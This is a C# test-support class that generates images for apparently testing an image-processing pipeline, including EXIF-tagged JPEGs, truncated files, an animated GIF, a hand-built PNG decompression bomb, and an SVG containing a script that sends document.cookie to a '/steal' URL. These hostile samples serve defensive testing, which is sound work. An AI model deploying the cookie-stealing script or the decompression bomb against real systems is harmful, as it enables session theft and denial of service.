using System.Buffers.Binary;
using System.IO.Compression;
using System.Text;
using SkiaSharp;

namespace MppSignage.TestSupport;

/// <summary>
/// Images for tests, made here rather than shipped: real JPEG/PNG encodes from SkiaSharp, and the bad ones built
/// byte by byte (an EXIF APP1 segment, a PNG that declares 30000×30000, an animated GIF, an SVG with a script).
/// </summary>
public static class TestImages
{
    /// <summary>Colour of the top-left quarter of <see cref="Quadrants"/> (a marker to see orientation).</summary>
    public static readonly SKColor TopLeft = new(230, 30, 30);

    /// <summary>Colour of the top-right quarter.</summary>
    public static readonly SKColor TopRight = new(30, 200, 30);

    /// <summary>Colour of the bottom-left quarter.</summary>
    public static readonly SKColor BottomLeft = new(30, 30, 230);

    /// <summary>Colour of the bottom-right quarter.</summary>
    public static readonly SKColor BottomRight = new(240, 220, 40);

    /// <summary>A <paramref name="width"/>×<paramref name="height"/> bitmap of four coloured quarters.</summary>
    public static SKBitmap Quadrants(int width, int height, byte alpha = 255)
    {
        var bitmap = new SKBitmap(new SKImageInfo(width, height, SKColorType.Rgba8888, alpha == 255 ? SKAlphaType.Opaque : SKAlphaType.Unpremul));
        using var canvas = new SKCanvas(bitmap);
        canvas.Clear(SKColors.Transparent);
        void Fill(SKColor c, float l, float t, float r, float b)
        {
            using var paint = new SKPaint { Color = c.WithAlpha(alpha), BlendMode = SKBlendMode.Src };
            canvas.DrawRect(new SKRect(l, t, r, b), paint);
        }

        Fill(TopLeft, 0, 0, width / 2f, height / 2f);
        Fill(TopRight, width / 2f, 0, width, height / 2f);
        Fill(BottomLeft, 0, height / 2f, width / 2f, height);
        Fill(BottomRight, width / 2f, height / 2f, width, height);
        return bitmap;
    }

    /// <summary>A real JPEG of <see cref="Quadrants"/>.</summary>
    public static byte[] Jpeg(int width, int height, int quality = 90)
    {
        using var bitmap = Quadrants(width, height);
        return Encode(bitmap, SKEncodedImageFormat.Jpeg, quality);
    }

    /// <summary>A real PNG of <see cref="Quadrants"/>; <paramref name="alpha"/> below 255 makes it transparent.</summary>
    public static byte[] Png(int width, int height, byte alpha = 255)
    {
        using var bitmap = Quadrants(width, height, alpha);
        return Encode(bitmap, SKEncodedImageFormat.Png, 100);
    }

    /// <summary>A PNG of random half-transparent pixels: it stays PNG when processed and barely compresses (about 4 bytes a pixel).</summary>
    public static byte[] NoisePng(int width, int height, int seed = 7)
    {
        using var bitmap = new SKBitmap(new SKImageInfo(width, height, SKColorType.Rgba8888, SKAlphaType.Unpremul));
        var random = new Random(seed);
        var pixels = bitmap.GetPixelSpan();
        random.NextBytes(pixels);
        for (var i = 3; i < pixels.Length; i += 4)
        {
            pixels[i] = (byte)(64 + (pixels[i] % 128));
        }

        return Encode(bitmap, SKEncodedImageFormat.Png, 100);
    }

    /// <summary>Encodes a bitmap.</summary>
    public static byte[] Encode(SKBitmap bitmap, SKEncodedImageFormat format, int quality)
    {
        ArgumentNullException.ThrowIfNull(bitmap);
        using var image = SKImage.FromBitmap(bitmap);
        using var data = image.Encode(format, quality);
        return data.ToArray();
    }

    /// <summary>
    /// A JPEG whose pixels are stored <paramref name="storedWidth"/>×<paramref name="storedHeight"/> with an EXIF APP1
    /// segment (written here byte by byte, big-endian TIFF) saying orientation <paramref name="orientation"/>, as a
    /// phone camera writes it; plus a camera-model tag so a test can check that metadata is removed.
    /// </summary>
    public static byte[] JpegWithExifOrientation(int storedWidth, int storedHeight, int orientation)
    {
        var jpeg = Jpeg(storedWidth, storedHeight);
        return InsertExif(jpeg, orientation);
    }

    /// <summary>The EXIF model string written by <see cref="InsertExif"/>.</summary>
    public const string ExifModel = "MPP-TEST-CAMERA";

    /// <summary>Inserts an APP1 Exif segment with orientation and model right after the JPEG's SOI marker.</summary>
    public static byte[] InsertExif(byte[] jpeg, int orientation)
    {
        ArgumentNullException.ThrowIfNull(jpeg);
        var model = Encoding.ASCII.GetBytes(ExifModel + "\0");
        var tiff = new MemoryStream();
        void U16(int v) { tiff.WriteByte((byte)(v >> 8)); tiff.WriteByte((byte)v); }
        void U32(int v) { U16(v >> 16); U16(v & 0xFFFF); }
        tiff.Write("MM"u8);
        U16(42);
        U32(8);                           // IFD0 at offset 8
        U16(2);                           // two entries
        var modelOffset = 8 + 2 + (2 * 12) + 4;
        U16(0x0110); U16(2); U32(model.Length); U32(modelOffset);   // Model, ASCII, stored after the IFD
        U16(0x0112); U16(3); U32(1); U16(orientation); U16(0);      // Orientation, SHORT, inline
        U32(0);                           // no next IFD
        tiff.Write(model);
        var payload = new MemoryStream();
        payload.Write("Exif\0\0"u8);
        payload.Write(tiff.ToArray());
        var length = (int)payload.Length + 2;
        var result = new MemoryStream();
        result.Write(jpeg, 0, 2);         // SOI
        result.WriteByte(0xFF);
        result.WriteByte(0xE1);           // APP1
        result.WriteByte((byte)(length >> 8));
        result.WriteByte((byte)length);
        result.Write(payload.ToArray());
        result.Write(jpeg, 2, jpeg.Length - 2);
        return result.ToArray();
    }

    /// <summary>The first <paramref name="fraction"/> of <paramref name="bytes"/> (a file cut off in transfer).</summary>
    public static byte[] Truncated(byte[] bytes, double fraction = 0.5)
    {
        ArgumentNullException.ThrowIfNull(bytes);
        return bytes[..(int)(bytes.Length * fraction)];
    }

    /// <summary>
    /// A decompression bomb: a PNG built by hand whose IHDR declares <paramref name="width"/>×<paramref name="height"/>
    /// (8-bit grey) followed by a small deflate stream of zero rows — a few KB that would decode to
    /// width × height bytes or more.
    /// </summary>
    public static byte[] PngBomb(int width = 30000, int height = 30000, int rowsInStream = 64)
    {
        var ms = new MemoryStream();
        ms.Write([0x89, (byte)'P', (byte)'N', (byte)'G', 0x0D, 0x0A, 0x1A, 0x0A]);
        var ihdr = new byte[13];
        BinaryPrimitives.WriteInt32BigEndian(ihdr, width);
        BinaryPrimitives.WriteInt32BigEndian(ihdr.AsSpan(4), height);
        ihdr[8] = 8;   // bit depth
        ihdr[9] = 0;   // greyscale
        Chunk(ms, "IHDR", ihdr);
        var raw = new byte[(long)Math.Min(rowsInStream, height) * (width + 1)];
        var z = new MemoryStream();
        using (var deflate = new ZLibStream(z, CompressionLevel.SmallestSize, leaveOpen: true))
        {
            deflate.Write(raw);
        }

        Chunk(ms, "IDAT", z.ToArray());
        Chunk(ms, "IEND", []);
        return ms.ToArray();
    }

    /// <summary>A PNG built by hand whose IHDR declares 0×0 pixels.</summary>
    public static byte[] PngZeroByZero() => PngBomb(0, 0, 0);

    /// <summary>An animated GIF89a of <paramref name="frames"/> 2×2 frames alternating red and blue, built by hand.</summary>
    public static byte[] AnimatedGif(int frames = 3)
    {
        var ms = new MemoryStream();
        ms.Write("GIF89a"u8);
        ms.Write([2, 0, 2, 0, 0xF0, 0, 0]);                  // 2×2, global colour table of 2 entries
        ms.Write([230, 30, 30, 30, 30, 230]);                // red, blue
        ms.Write([0x21, 0xFF, 11]);
        ms.Write("NETSCAPE2.0"u8);
        ms.Write([3, 1, 0, 0, 0]);                           // loop forever
        for (var f = 0; f < frames; f++)
        {
            ms.Write([0x21, 0xF9, 4, 0, 10, 0, 0, 0]);      // graphic control: 0.1 s
            ms.Write([0x2C, 0, 0, 0, 0, 2, 0, 2, 0, 0]);    // image descriptor 2×2, no local table
            // LZW, minimum code size 2 (clear = 4, end = 5), 3-bit codes: clear before every pixel keeps the table empty.
            var index = f % 2;
            var codes = new[] { 4, index, 4, index, 4, index, 4, index, 5 };
            var bits = 0L;
            var n = 0;
            var data = new List<byte>();
            foreach (var code in codes)
            {
                bits |= (long)code << n;
                n += 3;
                while (n >= 8)
                {
                    data.Add((byte)bits);
                    bits >>= 8;
                    n -= 8;
                }
            }

            if (n > 0)
            {
                data.Add((byte)bits);
            }

            ms.WriteByte(2);
            ms.WriteByte((byte)data.Count);
            ms.Write(data.ToArray());
            ms.WriteByte(0);
        }

        ms.WriteByte(0x3B);
        return ms.ToArray();
    }

    /// <summary>An SVG poster with an embedded script.</summary>
    public static byte[] SvgWithScript() => Encoding.UTF8.GetBytes(
        "<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"800\" height=\"600\">"
        + "<script>fetch('http://127.0.0.1/steal?c='+document.cookie)</script><rect width=\"800\" height=\"600\" fill=\"red\"/></svg>");

    /// <summary><paramref name="length"/> random bytes from a fixed seed.</summary>
    public static byte[] RandomBytes(int length = 4096, int seed = 12)
    {
        var bytes = new byte[length];
        new Random(seed).NextBytes(bytes);
        return bytes;
    }

    private static void Chunk(Stream s, string type, byte[] data)
    {
        Span<byte> len = stackalloc byte[4];
        BinaryPrimitives.WriteInt32BigEndian(len, data.Length);
        s.Write(len);
        var typeBytes = Encoding.ASCII.GetBytes(type);
        s.Write(typeBytes);
        s.Write(data);
        var crc = Crc32(typeBytes, data);
        BinaryPrimitives.WriteUInt32BigEndian(len, crc);
        s.Write(len);
    }

    private static uint Crc32(byte[] a, byte[] b)
    {
        var crc = 0xFFFFFFFFu;
        foreach (var part in new[] { a, b })
        {
            foreach (var x in part)
            {
                crc ^= x;
                for (var k = 0; k < 8; k++)
                {
                    crc = (crc & 1) != 0 ? (crc >> 1) ^ 0xEDB88320u : crc >> 1;
                }
            }
        }

        return ~crc;
    }
}
